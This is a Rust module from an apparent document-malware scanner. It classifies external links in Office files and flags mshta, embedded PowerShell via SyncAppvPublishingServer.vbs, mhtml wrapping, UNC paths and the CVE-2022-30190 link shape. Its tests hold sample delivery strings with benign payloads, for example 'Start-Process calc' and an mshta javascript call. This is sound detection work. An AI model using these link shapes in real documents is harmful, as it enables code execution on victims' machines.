use std::collections::BTreeMap;

use percent_encoding::percent_decode_str;
use url::{Position, Url};

use sis_ole_core::extract::{ArtifactStore, ExtractionSink};
use sis_ole_core::heuristic::{Heuristic, HeuristicKind, Verdict};
use sis_ole_core::model::{TagBag, TagKind};
use sis_ole_core::safelist::Safelist;

use crate::net::{is_reserved_ipv4, is_valid_domain, parse_ipv4};
use crate::patterns::EXECUTABLE_EXTENSIONS;

/// Hostname classification for a parsed URI.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum HostKind {
    Domain,
    Ip,
}

impl HostKind {
    pub fn tag_kind(&self) -> TagKind {
        match self {
            HostKind::Domain => TagKind::NetworkDomain,
            HostKind::Ip => TagKind::NetworkIp,
        }
    }
}

#[derive(Debug, Clone, PartialEq, Eq)]
pub struct ParsedUri {
    /// Normalized URL text.
    pub url: String,
    /// Classified hostname; `None` when the host is neither a syntactically
    /// valid domain nor a routable IPv4 address.
    pub host: Option<(HostKind, String)>,
}

/// Validates and normalizes a candidate URI string.
///
/// Only the first whitespace-delimited token is considered; non-ASCII input,
/// missing schemes and missing hostnames are rejected outright. A path
/// containing a colon is truncated at it, which defuses the malformed
/// `path:port` artifacts seen in the wild.
pub fn parse_uri(text: &str) -> Option<ParsedUri> {
    let token = text.split_whitespace().next()?;
    if !token.is_ascii() {
        return None;
    }
    let url = Url::parse(token).ok()?;
    let hostname = url.host_str()?.to_string();
    if hostname.is_empty()
        || !hostname.chars().all(|c| c.is_ascii_alphanumeric() || c == '.' || c == '-')
    {
        return None;
    }
    let path = url.path();
    let url_text = if let Some((head, _)) = path.split_once(':') {
        let authority = &url[Position::BeforeUsername..Position::AfterPort];
        format!("{}://{}{}", url.scheme(), authority, head)
    } else {
        url.as_str().to_string()
    };
    let host = if is_valid_domain(&hostname) {
        Some((HostKind::Domain, hostname))
    } else {
        match parse_ipv4(&hostname) {
            Some(addr) if !is_reserved_ipv4(addr) => Some((HostKind::Ip, addr.to_string())),
            _ => None,
        }
    };
    Some(ParsedUri { url: url_text, host })
}

/// One classified external relationship link.
#[derive(Debug, Clone)]
pub struct ProcessedLink {
    pub link_type: String,
    pub link: String,
    pub heuristic: Heuristic,
    pub tags: TagBag,
}

impl ProcessedLink {
    pub fn verdict(&self) -> Verdict {
        self.heuristic.verdict()
    }
}

/// Classifies an external relationship link and builds its heuristic.
///
/// Known delivery shapes (`mshta`, `SyncAppvPublishingServer.vbs`, `mhtml:`
/// wrapping, UNC file links) are unwrapped first; embedded script payloads
/// go to the extraction sink. Links whose host cannot be resolved to a
/// domain or routable IP carry signatures but no tags.
pub fn process_link(
    link_type: &str,
    raw_link: &str,
    safelist: &Safelist,
    deep_scan: bool,
    sink: &mut ExtractionSink,
    store: &mut dyn ArtifactStore,
) -> ProcessedLink {
    let mut heuristic = Heuristic::new(HeuristicKind::ExternalRelationship);
    let link_type = link_type.to_lowercase();
    let mut safe_link = raw_link.to_string();
    let unescaped = percent_decode_str(raw_link).decode_utf8_lossy().trim().to_string();

    if unescaped.starts_with("mshta") {
        heuristic.add_attack_id("T1218.005");
        heuristic.add_signature("mshta");
        if let Some((_, command)) = unescaped.split_once(char::is_whitespace) {
            let command = strip_quotes(command.trim());
            if let Some((script_type, script)) = command
                .split_once(':')
                .filter(|(kind, _)| *kind == "javascript" || *kind == "vbscript")
            {
                sink.offer(
                    store,
                    script.as_bytes(),
                    &format!(".mshta_{script_type}"),
                    &format!("{script_type} executed by mshta.exe in external relationship"),
                );
            }
            safe_link = command.to_string();
        }
    }
    if let Some((_, powershell)) = unescaped.split_once("SyncAppvPublishingServer.vbs") {
        heuristic.add_attack_id("T1216");
        heuristic.add_signature("embedded_powershell");
        heuristic.add_signature(&link_type);
        sink.offer(
            store,
            powershell.as_bytes(),
            ".ps1",
            "powershell hidden in hyperlink external relationship",
        );
        // The link itself is not the indicator, the embedded script is.
        return ProcessedLink {
            link_type,
            link: raw_link.to_string(),
            heuristic,
            tags: TagBag::new(),
        };
    }
    if let Some(rest) = safe_link.strip_prefix("mhtml:") {
        heuristic.add_signature("mhtml_link");
        let last = rest.rsplit("!x-usc:").next().unwrap_or(rest);
        safe_link = match last.rsplit_once('!') {
            Some((head, _)) => head.to_string(),
            None => last.to_string(),
        };
    }
    if safe_link.starts_with(r"file:///\\") {
        heuristic.add_signature("unc_path");
        let decoded = percent_decode_str(&safe_link[8..]).decode_utf8_lossy().to_string();
        if let Some(token) = decoded.split_whitespace().next() {
            if let Some(uri) = unc_to_file_uri(token) {
                safe_link = uri;
            }
        }
    }

    let Some(parsed) = parse_uri(&safe_link) else {
        return ProcessedLink {
            link_type,
            link: raw_link.to_string(),
            heuristic,
            tags: TagBag::new(),
        };
    };
    let Some((host_kind, hostname)) = parsed.host else {
        return ProcessedLink {
            link_type,
            link: raw_link.to_string(),
            heuristic,
            tags: TagBag::new(),
        };
    };
    let url = parsed.url;

    let mut tags = TagBag::new();
    tags.insert(TagKind::NetworkUri, url.clone());
    tags.insert(host_kind.tag_kind(), hostname.clone());

    let safelisted = safelist.is_safelisted(TagKind::NetworkUri, &url, deep_scan)
        || safelist.is_safelisted(host_kind.tag_kind(), &hostname, deep_scan);
    heuristic.add_signature(&link_type);
    if safelisted || (link_type == "oleobject" && hostname.contains(".sharepoint.")) {
        // Suppress scoring without suppressing the tags themselves.
        heuristic.set_signature_score(&link_type, 0);
        heuristic.set_signature_score("unc_path", 0);
        heuristic.set_signature_score("external_link_ip", 0);
    }
    if url.ends_with('!') && link_type == "oleobject" {
        tags.insert(TagKind::NetworkUri, url[..url.len() - 1].to_string());
        tags.insert(TagKind::AttributionExploit, "CVE-2022-30190");
        heuristic.add_signature("msdt_exploit");
    }
    if url.contains("../") {
        heuristic.add_signature("relative_path");
    }
    if link_type == "attachedtemplate" {
        heuristic.add_attack_id("T1221");
    }
    if host_kind == HostKind::Ip && link_type != "hyperlink" {
        heuristic.add_signature("external_link_ip");
    }
    if let Some(filename) = final_path_segment(&url) {
        if let Some(dot) = filename.rfind('.') {
            let ext = filename[dot..].to_lowercase();
            if ext != ".com"
                && EXECUTABLE_EXTENSIONS.contains(&ext.as_str())
                && !safelist.is_safelisted(TagKind::FileNameExtracted, &filename, deep_scan)
            {
                heuristic.add_signature("link_to_executable");
                tags.insert(TagKind::FileNameExtracted, filename);
            }
        }
    }

    ProcessedLink { link_type, link: raw_link.to_string(), heuristic, tags }
}

fn strip_quotes(command: &str) -> &str {
    if let Some(rest) = command.strip_prefix('"') {
        rest.strip_suffix('"').unwrap_or(rest)
    } else {
        command
    }
}

/// `\\server\share\file` to `file://server/share/file`.
fn unc_to_file_uri(path: &str) -> Option<String> {
    let trimmed = path.trim_start_matches('\\');
    if trimmed.is_empty() {
        return None;
    }
    Some(format!("file://{}", trimmed.replace('\\', "/")))
}

fn final_path_segment(url: &str) -> Option<String> {
    let parsed = Url::parse(url).ok()?;
    let segment = parsed.path().rsplit('/').next()?;
    if segment.is_empty() {
        None
    } else {
        Some(segment.to_string())
    }
}

/// A verdict tier of processed links, reported together.
#[derive(Debug, Clone)]
pub struct LinkVerdictGroup {
    pub verdict: Verdict,
    /// The maximum-score member's heuristic stands for the group.
    pub heuristic: Heuristic,
    pub tags: TagBag,
    pub links: Vec<(String, String)>,
}

/// Partitions processed links by verdict. Groups come out in severity
/// order; each reports the maximum score across its members and the union
/// of their tags.
pub fn group_links_by_verdict(processed: Vec<ProcessedLink>) -> Vec<LinkVerdictGroup> {
    let mut by_verdict: BTreeMap<Verdict, Vec<ProcessedLink>> = BTreeMap::new();
    for link in processed {
        by_verdict.entry(link.verdict()).or_default().push(link);
    }
    by_verdict
        .into_iter()
        .map(|(verdict, members)| {
            let heuristic = members
                .iter()
                .max_by_key(|m| m.heuristic.score())
                .map(|m| m.heuristic.clone())
                .expect("verdict group is never empty");
            let mut tags = TagBag::new();
            let mut links = Vec::new();
            for member in members {
                tags.merge(member.tags);
                links.push((member.link_type, member.link));
            }
            LinkVerdictGroup { verdict, heuristic, tags, links }
        })
        .collect()
}

#[cfg(test)]
mod tests {
    use super::*;
    use anyhow::Result;
    use sis_ole_core::extract::StoreOutcome;

    #[derive(Default)]
    struct MemoryStore {
        files: Vec<(String, Vec<u8>)>,
    }

    impl ArtifactStore for MemoryStore {
        fn persist(&mut self, name: &str, payload: &[u8], _desc: &str) -> Result<StoreOutcome> {
            self.files.push((name.to_string(), payload.to_vec()));
            Ok(StoreOutcome::Stored)
        }
    }

    fn classify(link_type: &str, link: &str) -> (ProcessedLink, MemoryStore) {
        let safelist = Safelist::builtin();
        let mut sink = ExtractionSink::new();
        let mut store = MemoryStore::default();
        let processed = process_link(link_type, link, &safelist, false, &mut sink, &mut store);
        (processed, store)
    }

    #[test]
    fn parse_uri_domain_round_trip() {
        let parsed = parse_uri("http://example.com/a/b").unwrap();
        assert_eq!(parsed.url, "http://example.com/a/b");
        assert_eq!(parsed.host, Some((HostKind::Domain, "example.com".to_string())));
    }

    #[test]
    fn parse_uri_ip_and_reserved() {
        let parsed = parse_uri("http://192.0.2.1/x").unwrap();
        assert_eq!(parsed.host, Some((HostKind::Ip, "192.0.2.1".to_string())));
        let reserved = parse_uri("http://127.0.0.1/x").unwrap();
        assert_eq!(reserved.host, None);
    }

    #[test]
    fn parse_uri_rejections() {
        assert!(parse_uri("").is_none());
        assert!(parse_uri("no scheme here").is_none());
        assert!(parse_uri("http://\u{043f}\u{0440}.example/x").is_none());
    }

    #[test]
    fn parse_uri_takes_first_token_and_strips_path_colon() {
        let parsed = parse_uri("http://example.com/payload:8080garbage trailing words").unwrap();
        assert_eq!(parsed.url, "http://example.com/payload");
    }

    #[test]
    fn plain_hyperlink_is_informative() {
        let (processed, _) = classify("hyperlink", "http://example.com/page");
        assert_eq!(processed.heuristic.score(), 0);
        assert_eq!(processed.verdict(), Verdict::Informative);
        assert!(processed.tags.contains(TagKind::NetworkUri, "http://example.com/page"));
    }

    #[test]
    fn oleobject_link_is_suspicious() {
        let (processed, _) = classify("oleobject", "http://example.com/page");
        assert_eq!(processed.heuristic.score(), 500);
        assert_eq!(processed.verdict(), Verdict::Suspicious);
    }

    #[test]
    fn ip_hosted_oleobject_is_malicious() {
        let (processed, _) = classify("oleobject", "http://203.0.113.9/page");
        assert!(processed.heuristic.has_signature("external_link_ip"));
        assert_eq!(processed.heuristic.score(), 1000);
        assert_eq!(processed.verdict(), Verdict::Malicious);
    }

    #[test]
    fn msdt_exploit_shape() {
        let (processed, _) = classify(
            "oleobject",
            "http://203.0.113.9/payload.html!",
        );
        assert!(processed.heuristic.has_signature("msdt_exploit"));
        assert!(processed.tags.contains(TagKind::AttributionExploit, "CVE-2022-30190"));
        // Both the raw URL and the trimmed one are tagged.
        assert!(processed.tags.contains(TagKind::NetworkUri, "http://203.0.113.9/payload.html!"));
        assert!(processed.tags.contains(TagKind::NetworkUri, "http://203.0.113.9/payload.html"));
        assert_eq!(processed.verdict(), Verdict::Malicious);
    }

    #[test]
    fn mshta_script_payload_is_extracted() {
        let (processed, store) =
            classify("oleobject", "mshta \"javascript:close(new ActiveXObject('x'))\"");
        assert!(processed.heuristic.has_signature("mshta"));
        assert!(processed.heuristic.attack_ids().any(|id| id == "T1218.005"));
        assert_eq!(store.files.len(), 1);
        assert!(store.files[0].0.ends_with(".mshta_javascript"));
        assert_eq!(store.files[0].1, b"close(new ActiveXObject('x'))");
        // javascript: has no host, so the link itself yields no tags.
        assert!(processed.tags.is_empty());
        assert_eq!(processed.verdict(), Verdict::Malicious);
    }

    #[test]
    fn mshta_with_plain_url_reports_the_url() {
        let (processed, store) = classify("oleobject", "mshta http://203.0.113.9/x.hta");
        assert!(store.files.is_empty());
        assert!(processed.tags.contains(TagKind::NetworkUri, "http://203.0.113.9/x.hta"));
        assert!(processed.heuristic.has_signature("link_to_executable"));
    }

    #[test]
    fn syncappv_powershell_returns_no_tags() {
        let (processed, store) = classify(
            "hyperlink",
            r"C:\Windows\System32\SyncAppvPublishingServer.vbs ;Start-Process calc",
        );
        assert!(processed.heuristic.has_signature("embedded_powershell"));
        assert!(processed.heuristic.attack_ids().any(|id| id == "T1216"));
        assert!(processed.tags.is_empty());
        assert_eq!(store.files.len(), 1);
        assert!(store.files[0].0.ends_with(".ps1"));
        assert_eq!(store.files[0].1, b" ;Start-Process calc");
    }

    #[test]
    fn mhtml_wrapper_is_unwrapped() {
        let (processed, _) = classify(
            "oleobject",
            "mhtml:http://x.example/doc!x-usc:http://evil.example.com/payload!part",
        );
        assert!(processed.heuristic.has_signature("mhtml_link"));
        assert!(processed
            .tags
            .contains(TagKind::NetworkUri, "http://evil.example.com/payload"));
    }

    #[test]
    fn unc_path_converts_to_file_uri() {
        let (processed, _) = classify("oleobject", r"file:///\\203.0.113.9\share\evil.dll");
        assert!(processed.heuristic.has_signature("unc_path"));
        assert!(processed.tags.contains(TagKind::NetworkUri, "file://203.0.113.9/share/evil.dll"));
        assert!(processed.heuristic.has_signature("link_to_executable"));
        assert!(processed.tags.contains(TagKind::FileNameExtracted, "evil.dll"));
    }

    #[test]
    fn sharepoint_oleobject_scores_zero_but_keeps_tags() {
        let (processed, _) =
            classify("oleobject", "https://corp.sharepoint.com/sites/doc.docx");
        assert_eq!(processed.heuristic.score(), 0);
        assert!(!processed.tags.is_empty());
    }

    #[test]
    fn safelisted_host_scores_zero_but_keeps_tags() {
        let safelist = Safelist::builtin();
        let mut sink = ExtractionSink::new();
        let mut store = MemoryStore::default();
        let processed = process_link(
            "oleobject",
            "https://res.microsoft.com/x",
            &safelist,
            false,
            &mut sink,
            &mut store,
        );
        assert_eq!(processed.heuristic.score(), 0);
        assert!(processed.tags.contains(TagKind::NetworkUri, "https://res.microsoft.com/x"));
    }

    #[test]
    fn attached_template_gets_attack_id() {
        let (processed, _) = classify("attachedtemplate", "http://example.com/t.dotm");
        assert!(processed.heuristic.attack_ids().any(|id| id == "T1221"));
        assert_eq!(processed.heuristic.score(), 500);
    }

    #[test]
    fn verdict_grouping_partitions_and_takes_max() {
        let safelist = Safelist::builtin();
        let mut sink = ExtractionSink::new();
        let mut store = MemoryStore::default();
        let mut links = Vec::new();
        for (ty, link) in [
            ("hyperlink", "http://example.com/a"),
            ("oleobject", "http://example.com/b"),
            ("oleobject", "http://203.0.113.9/c"),
            ("oleobject", "http://203.0.113.9/d.exe"),
        ] {
            links.push(process_link(ty, link, &safelist, false, &mut sink, &mut store));
        }
        let groups = group_links_by_verdict(links);
        assert_eq!(groups.len(), 3);
        assert_eq!(groups[0].verdict, Verdict::Malicious);
        // d.exe scores 1500: oleobject + external_link_ip + link_to_executable.
        assert_eq!(groups[0].heuristic.score(), 1500);
        assert_eq!(groups[0].links.len(), 2);
        assert_eq!(groups[1].verdict, Verdict::Suspicious);
        assert_eq!(groups[1].heuristic.score(), 500);
        assert_eq!(groups[2].verdict, Verdict::Informative);
        assert_eq!(groups[2].heuristic.score(), 0);
    }
}
